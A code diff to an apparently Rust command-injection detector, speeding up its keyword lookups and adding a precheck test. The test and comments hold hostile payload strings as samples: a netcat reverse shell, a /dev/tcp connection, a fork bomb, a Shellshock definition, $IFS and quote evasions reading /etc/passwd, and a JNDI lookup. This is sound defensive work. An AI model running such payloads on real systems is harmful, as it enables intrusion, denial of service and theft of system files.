@@ -8,10 +8,12 @@
 //! tool invocations and Windows `cmd`/PowerShell syntax have rules of their own.
 
 use super::anchor::{longest_piece, Anchors};
+use super::wordset::WordSet;
 use super::{
-    Rule, RCE_CHAINED_COMMAND, RCE_SHELL_EVASION, RCE_SHELL_INVOCATION, RCE_SUBSTITUTION,
+    Lowered, Rule, RCE_CHAINED_COMMAND, RCE_SHELL_EVASION, RCE_SHELL_INVOCATION, RCE_SUBSTITUTION,
     RCE_WINDOWS,
 };
+use std::borrow::Cow;
 
 /// Commands an injected payload runs that are not English words: matched at any command
 /// position.
@@ -175,9 +177,16 @@ const WRAPPERS: [&str; 10] = [
     "time", "nohup", "sudo", "strace", "ltrace", "nice", "timeout", "env", "xargs", "watch",
 ];
 
+/// [`COMMANDS`], [`WORD_COMMANDS`], [`TOPICS`] and [`WRAPPERS`] as sets: every word at a
+/// command position and every quoted word is looked up, so a lookup must not walk the lists.
+static COMMAND_SET: WordSet = WordSet::new(&COMMANDS);
+static WORD_COMMAND_SET: WordSet = WordSet::new(&WORD_COMMANDS);
+static TOPIC_SET: WordSet = WordSet::new(&TOPICS);
+static WRAPPER_SET: WordSet = WordSet::new(&WRAPPERS);
+
 /// Whether `name` is a known command, a member of a command family, or `ansible` itself.
 fn is_command(name: &str) -> bool {
-    COMMANDS.contains(&name)
+    COMMAND_SET.contains(name)
         || COMMAND_FAMILIES.iter().any(|f| {
             name == *f
                 || name
@@ -234,35 +243,44 @@ const WINDOWS: [&str; 16] = [
 
 /// The command-injection rules that match a decoded value.
 pub fn detect(decoded: &[u8]) -> Vec<Rule> {
-    let text = String::from_utf8_lossy(decoded).to_ascii_lowercase();
+    detect_with(&Lowered::new(decoded), true)
+}
+
+/// [`detect`] on a value's shared lowercase copy, with its prechecks on or off (off only to
+/// check that they change nothing: every check then runs on every value).
+pub(crate) fn detect_with(value: &Lowered, prechecks: bool) -> Vec<Rule> {
+    let text = value.lower();
     let mut out = Vec::new();
     // Substitution is `<(`, `>(`, `$(` or a pair of backticks.
-    if text.contains(['(', '`']) && has_substitution(&text) {
+    if text.contains(['(', '`']) && has_substitution(text) {
         out.push(RCE_SUBSTITUTION);
     }
-    if command_positions(&text)
+    if command_positions(text)
         .into_iter()
         .any(|start| names_command(text.get(start..).unwrap_or_default()))
-        || starts_with_command_and_option(&text)
+        || starts_with_command_and_option(text)
     {
         out.push(RCE_CHAINED_COMMAND);
     }
     // Every evasion needs one of these: a glob's `[`, `$` (`$IFS`, `$((`, `$[`, `$@`, `$9`),
     // a brace expansion's `{`, or a quote or backslash inside a word.
-    if text.contains(['[', '$', '{', '\'', '"', '\\']) && has_shell_evasion(&text) {
+    if text.contains(['[', '$', '{', '\'', '"', '\\']) && has_shell_evasion(text, prechecks) {
         out.push(RCE_SHELL_EVASION);
     }
     // Squeezing only turns blank runs into one blank: a piece without blanks found in the
     // squeezed copy stands in `text` as well. Every invocation has an option (`-c`, `-e`,
-    // `-r`) or is `/dev/tcp/`; a fork bomb opens with `()`. Every Windows phrase has one of
+    // `-r`: a `-` alone, as in `item-12` or `2-pack`, is not enough) or is `/dev/tcp/`; a fork
+    // bomb or a Shellshock definition opens with `()`. Every Windows phrase has one of
     // [`WINDOWS_ANCHORS`].
-    let invocation_possible =
-        text.contains('-') || text.contains("/dev/tcp/") || text.contains("()");
-    let windows_possible = WINDOWS_ANCHORS.found_in(text.as_bytes());
+    let invocation_possible = !prechecks
+        || ["-c", "-e", "-r", "/dev/tcp/", "()"]
+            .iter()
+            .any(|piece| text.contains(piece));
+    let windows_possible = !prechecks || WINDOWS_ANCHORS.found_in(text.as_bytes());
     if !invocation_possible && !windows_possible {
         return out;
     }
-    let squeezed = squeeze_spaces(&text);
+    let squeezed = squeeze_spaces(text);
     if invocation_possible
         && (INVOCATIONS.iter().any(|i| squeezed.contains(i)) || has_fork_bomb(&squeezed))
     {
@@ -320,12 +338,7 @@ fn names_command(rest: &str) -> bool {
                 || matches!(c, ';' | '|' | '&' | '<' | '>' | ')' | '}' | ',' | '`')
         })
         .unwrap_or(rest.len());
-    let word: String = rest
-        .get(..end)
-        .unwrap_or_default()
-        .chars()
-        .filter(|c| !matches!(c, '\'' | '"' | '\\'))
-        .collect();
+    let word = without_quotes(rest.get(..end).unwrap_or_default());
     let word = word.trim_start_matches('$');
     let name = word.rsplit('/').next().unwrap_or(word);
     let name = name.split(['$', '{']).next().unwrap_or(name);
@@ -349,7 +362,21 @@ fn names_command(rest: &str) -> bool {
             || (arg.first().is_some_and(u8::is_ascii_alphabetic)
                 && arg.get(1..3) == Some(b":\\".as_slice()));
     }
-    WORD_COMMANDS.contains(&name) && shell_like_arguments(args)
+    WORD_COMMAND_SET.contains(name) && shell_like_arguments(args)
+}
+
+/// `word` without the quotes and backslashes a shell removes (`c'a't` is `cat`); borrowed when
+/// it has none, as most words.
+fn without_quotes(word: &str) -> Cow<'_, str> {
+    if word.contains(['\'', '"', '\\']) {
+        Cow::Owned(
+            word.chars()
+                .filter(|c| !matches!(c, '\'' | '"' | '\\'))
+                .collect(),
+        )
+    } else {
+        Cow::Borrowed(word)
+    }
 }
 
 /// Nothing, or a first argument an English sentence would not have: `-n`, `/etc`, `5`, `$x`,
@@ -407,7 +434,7 @@ fn starts_with_command_and_option(text: &str) -> bool {
             && args
                 .iter()
                 .all(|a| a.starts_with('-') || a.contains(['/', '.', '=']))
-            && !TOPICS.contains(&first)
+            && !TOPIC_SET.contains(first)
     };
     if is_command(first)
         && (line_break()
@@ -417,7 +444,8 @@ fn starts_with_command_and_option(text: &str) -> bool {
     {
         return true;
     }
-    if WRAPPERS.contains(&first) && names_command(trimmed.get(first.len()..).unwrap_or_default()) {
+    if WRAPPER_SET.contains(first) && names_command(trimmed.get(first.len()..).unwrap_or_default())
+    {
         return true;
     }
     if first == "alias" && names_command(trimmed) {
@@ -438,7 +466,7 @@ fn starts_with_command_and_option(text: &str) -> bool {
             .chars()
             .nth(1)
             .is_some_and(|c| c.is_ascii_alphanumeric() || c == '[');
-    (option || path) && (COMMANDS.contains(&word) || WORD_COMMANDS.contains(&word))
+    (option || path) && (COMMAND_SET.contains(word) || WORD_COMMAND_SET.contains(word))
 }
 
 /// A shell function that calls itself twice through a pipe and the background, `f(){ f|f& };f`
@@ -503,14 +531,19 @@ fn has_substitution(text: &str) -> bool {
 
 /// `$IFS`, `${IFS}`, brace expansion with a comma (`{cat,/etc/passwd}`), `$@`/`$9` splitting a
 /// command word (`ca$@t`), and a known command spelled with quotes or backslashes.
-fn has_shell_evasion(text: &str) -> bool {
-    if has_path_glob(text) || text.contains("$((") || text.contains("$[") {
+fn has_shell_evasion(text: &str, prechecks: bool) -> bool {
+    if has_path_glob(text) {
         return true;
     }
-    if text.contains("$ifs")
-        || text.contains("${ifs")
-        || text.contains("$'\\x")
-        || text.contains("${jndi:")
+    // Precheck: each literal below starts with `$` (most values have none; six substring
+    // searches saved).
+    if (!prechecks || text.contains('$'))
+        && (text.contains("$((")
+            || text.contains("$[")
+            || text.contains("$ifs")
+            || text.contains("${ifs")
+            || text.contains("$'\\x")
+            || text.contains("${jndi:"))
     {
         return true;
     }
@@ -533,17 +566,19 @@ fn has_shell_evasion(text: &str) -> bool {
             if !obfuscated {
                 return false;
             }
-            let cleaned: String = word
-                .replace("$@", "")
-                .replace("$9", "")
-                .chars()
-                .filter(|c| !matches!(c, '\'' | '"' | '\\'))
-                .collect();
+            // (Each step copies only if it has something to remove: most words have no `$`.)
+            let mut cleaned = Cow::Borrowed(word);
+            for splitter in ["$@", "$9"] {
+                if cleaned.contains(splitter) {
+                    cleaned = Cow::Owned(cleaned.replace(splitter, ""));
+                }
+            }
+            let cleaned = without_quotes(&cleaned).into_owned();
             let name = cleaned.rsplit('/').next().unwrap_or(&cleaned);
             obfuscated
                 && cleaned != word
                 && name.len() > 1
-                && (COMMANDS.contains(&name) || WORD_COMMANDS.contains(&name))
+                && (COMMAND_SET.contains(name) || WORD_COMMAND_SET.contains(name))
         })
 }
 
@@ -663,6 +698,55 @@ mod tests {
             .into_iter()
             .map(|r| r.id)
             .collect()
+    }
+
+    #[test]
+    fn prechecks_at_their_edge() {
+        // Each invocation by its option piece (blank runs and case squeezed away), `/dev/tcp/`,
+        // a fork bomb and a Shellshock definition by `()`, the `$` literals of the evasions:
+        // found with the prechecks and without, the same rules.
+        for (v, rule) in [
+            ("x; SH \t -C id", "rce-004"),
+            ("python   -c 'import os'", "rce-004"),
+            ("a php -r phpinfo();", "rce-004"),
+            ("ncat -e /bin/sh 10.0.0.1", "rce-004"),
+            ("exec 3<>/dev/tcp/10.0.0.1/80", "rce-004"),
+            (":(){ :|:& };:", "rce-004"),
+            ("() { :;}; echo x", "rce-004"),
+            ("x=$((1+1))", "rce-003"),
+            ("a$[1]b", "rce-003"),
+            ("cat$IFS/etc/passwd", "rce-003"),
+            ("${jndi:ldap://x/a}", "rce-003"),
+            ("$'\\x63at' /etc/passwd", "rce-003"),
+        ] {
+            let decoded = v.as_bytes();
+            let with: Vec<_> = detect_with(&Lowered::new(decoded), true)
+                .iter()
+                .map(|r| r.id)
+                .collect();
+            let without: Vec<_> = detect_with(&Lowered::new(decoded), false)
+                .iter()
+                .map(|r| r.id)
+                .collect();
+            assert!(with.contains(&rule), "{v}: {with:?}");
+            assert_eq!(with, without, "{v}");
+        }
+        // A `-` without an option letter, `(` without `)`, no `$`: nothing either way.
+        for v in [
+            "Item 12 (2-pack)",
+            "kitchen/dining-room",
+            "pay 20 (cash)",
+            "it's (fine)",
+        ] {
+            assert!(
+                detect_with(&Lowered::new(v.as_bytes()), true).is_empty(),
+                "{v}"
+            );
+            assert!(
+                detect_with(&Lowered::new(v.as_bytes()), false).is_empty(),
+                "{v}"
+            );
+        }
     }
 
     #[test]
